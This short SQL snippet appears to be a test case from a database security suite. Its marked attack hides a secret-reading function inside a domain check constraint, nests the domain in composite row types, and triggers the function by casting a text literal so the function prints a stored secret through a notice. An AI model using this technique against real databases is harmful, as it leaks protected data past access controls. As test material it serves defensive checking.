-- Casts text to a table's row type that holds another table's row type that holds a domain.
-- wants: read
-- attack:
CREATE FUNCTION f_check(text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN true; END$$;
CREATE DOMAIN evil AS text CHECK (f_check(value));
CREATE TABLE withdomain (id int, d evil);
CREATE TABLE outer_table (w withdomain);
SELECT '("(1,x)")'::outer_table;
